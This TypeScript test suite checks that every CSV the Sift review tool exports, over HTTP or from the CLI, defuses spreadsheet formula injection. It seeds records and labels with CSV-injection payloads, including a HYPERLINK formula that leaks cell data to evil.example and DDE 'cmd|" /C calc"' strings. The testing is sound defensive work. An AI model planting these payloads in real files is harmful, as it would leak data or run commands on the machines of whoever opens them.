import { parse } from 'csv-parse/sync';
import fs from 'node:fs';
import path from 'node:path';
import request from 'supertest';
import { createApp } from '../../../server/app';
import { commands } from '../../../server/cli/commands';
import { openDatabase, type Db } from '../../../server/db/connection';
import { includedReportIds } from '../../../server/db/repos/fulltext';
import { LABEL_KEYS } from '../../../server/domain/prisma/settings';
import { buildDemo } from '../../../server/services/demo';
import { authHeader, bearer } from '../../support/auth';
import { sift, tempDir } from '../../support/cli';
import { fillPath, readRoutesCounted } from '../../support/routes';

/**
 * Issue 15: every CSV Sift writes is safe to open in a spreadsheet. Hostile text (a formula in a
 * record title, a source name, a code label, an excerpt, a PRISMA box label, the appraisal's notice)
 * is put everywhere a CSV can show it (extraction values are choices or numbers here); then every GET route of the API is called and each
 * answer that is CSV is checked cell by cell, as is every CSV the CLI writes. A CSV route or
 * command added later is swept too, and the sweep fails if it finds fewer CSVs than it knows.
 */
const FORMULA = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;
const clock = () => new Date('2026-11-01T09:00:00Z');

const HOSTILE_RIS = [
  'TY  - JOUR',
  'TI  - =HYPERLINK("http://evil.example/?leak="&A1,"click")',
  'AU  - -2+3+cmd|" /C calc"!A0',
  'JO  - @SUM(1+1)*cmd|" /C calc"!A0',
  'KW  - +cmd|" /C notepad"!A0',
  'AB  - \tTabbed =1+1',
  'PY  - 2024',
  'ER  - ',
  '',
].join('\n');

/** Every cell of a CSV text (several tables separated by blank lines are fine). */
function cells(text: string): string[] {
  const rows = parse(text, { relax_column_count: true, skip_empty_lines: true }) as string[][];
  return rows.flat();
}

function expectNoFormula(text: string, where: string): void {
  const live = cells(text).filter((cell) => FORMULA.test(cell) && !PLAIN_NUMBER.test(cell));
  expect({ where, live }).toEqual({ where, live: [] });
}

/** CSVs whose every cell is Sift's own text (the PRISMA 2020 checklist): no user text to defuse. */
const FIXED_TEXT_CSV = ['/api/projects/:projectId/report/checklist.csv'];

describe('every CSV Sift writes is formula-safe', () => {
  let dir: string;
  let dbFile: string;
  let db: Db;
  let projectId: number;
  let app: ReturnType<typeof createApp>;
  let owner: [string, string];

  beforeAll(async () => {
    dir = tempDir();
    dbFile = path.join(dir, 'review.sqlite');
    db = openDatabase(dbFile);
    projectId = buildDemo({ db, clock }).projectId;
    app = createApp({ db, clock });
    owner = authHeader(bearer(db, 'owner'));
    const alice = authHeader(bearer(db, 'alice'));
    const base = `/api/projects/${projectId}`;

    await request(app)
      .post(`${base}/sources`)
      .set(...owner)
      .field('name', '=cmd|" /C calc"!A0')
      .attach('files', Buffer.from(HOSTILE_RIS), 'hostile.ris')
      .expect(201);
    const code = await request(app)
      .post(`${base}/codes`)
      .set(...owner)
      .send({ code: 'evil', label: '=HYPERLINK("http://evil.example")', description: '@SUM(A1)' })
      .expect(201);
    const study = includedReportIds(db, projectId)[0]!;
    // The demo's alice has marked her coding done: she reopens it, codes, and marks it done again.
    const studyUrl = `${base}/coding/studies/${study}`;
    await request(app)
      .delete(`${studyUrl}/done`)
      .set(...alice)
      .expect(200);
    await request(app)
      .post(`${studyUrl}/applications`)
      .set(...alice)
      .send({ codeId: code.body.id ?? code.body.code?.id, excerpt: '+cmd|" /C calc"!A0', page: '-3+3' })
      .expect(201);
    await request(app)
      .post(`${studyUrl}/done`)
      .set(...alice)
      .expect(200);
    const labels = Object.fromEntries(LABEL_KEYS.map((key) => [key, `=HYPERLINK("${key}")`]));
    await request(app)
      .put(`${base}/prisma/settings`)
      .set(...owner)
      .send({ labels })
      .expect(200);
    // The appraisal's notice is repeated on every row of its summary CSV.
    await request(app)
      .patch(`${base}/appraisal/settings`)
      .set(...owner)
      .send({ notice: '=HYPERLINK("http://evil.example/notice")' })
      .expect(200);
  });

  afterAll(() => {
    db.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('over HTTP: every GET route that answers CSV', async () => {
    const { routes } = readRoutesCounted(
      () => createApp({ db, clock }),
      (built) => (built as unknown as { router: unknown }).router,
    );
    const recordId = includedReportIds(db, projectId)[0]!;
    const params = {
      projectId,
      recordId,
      extension: 'csv',
      stage: 'title_abstract',
      box: 'identification',
      field: 'country',
    };
    const checked: string[] = [];
    for (const route of routes.filter((r) => r.method === 'GET' && r.path.includes(':projectId'))) {
      let url: string;
      try {
        url = fillPath(route.path, params);
      } catch {
        continue; // a route with an id this sweep does not fill (codes, clusters, …) answers JSON
      }
      const res = await request(app)
        .get(url)
        .set(...owner)
        .buffer(true)
        .parse((response, done) => {
          const chunks: Buffer[] = [];
          response.on('data', (chunk: Buffer) => chunks.push(chunk));
          response.on('end', () => done(null, Buffer.concat(chunks)));
        });
      if (!String(res.headers['content-type'] ?? '').includes('text/csv')) continue;
      expect(res.status).toBe(200);
      const text = (res.body as Buffer).toString('utf8');
      // The hostile text reached this CSV (defused), so the check below checks something; the
      // PRISMA checklist holds only the checklist's wording and the report's fixed section titles.
      const reaches = !FIXED_TEXT_CSV.includes(route.path);
      expect({ url, reached: /HYPERLINK|cmd\|/.test(text) }).toEqual({ url, reached: reaches });
      expectNoFormula(text, url);
      checked.push(route.path);
    }
    expect(checked.sort()).toEqual(
      [
        '/api/projects/:projectId/appraisal/summary.csv',
        '/api/projects/:projectId/codebook.csv',
        '/api/projects/:projectId/export.:extension',
        '/api/projects/:projectId/prisma.csv',
        '/api/projects/:projectId/synthesis.csv',
        ...FIXED_TEXT_CSV,
      ].sort(),
    );
  });

  it('from the CLI: every command that writes CSV', async () => {
    // `sift import --format csv` reads CSV; every other command with a csv format writes one.
    const csvCommands = commands
      .filter((c) => c.name !== 'import' && /--format [^\s]*\bcsv\b/.test(c.usage))
      .map((c) => c.name);
    expect(csvCommands.sort()).toEqual(['appraisal', 'codebook', 'export', 'prisma', 'report']);
    const out = (name: string) => path.join(dir, name);
    const runs: [string, string[]][] = [
      ['export', ['export', '--db', dbFile, '--format', 'csv', '--out', out('export.csv')]],
      ['codebook', ['codebook', 'export', '--db', dbFile, '--format', 'csv', '--out', out('codebook.csv')]],
      ['prisma', ['prisma', '--db', dbFile, '--format', 'csv', '--out', out('prisma.csv')]],
      ['appraisal', ['appraisal', 'summary', '--db', dbFile, '--format', 'csv', '--out', out('appraisal.csv')]],
      ['report', ['report', 'checklist', '--db', dbFile, '--format', 'csv', '--out', out('report.csv')]],
    ];
    for (const [name, argv] of runs) {
      const result = await sift(argv);
      expect({ name, code: result.code }).toEqual({ name, code: 0 });
      const text = fs.readFileSync(out(`${name}.csv`), 'utf8');
      expect({ name, reached: /HYPERLINK|cmd\|/.test(text) }).toEqual({ name, reached: name !== 'report' });
      expectNoFormula(text, name);
    }
  });
});
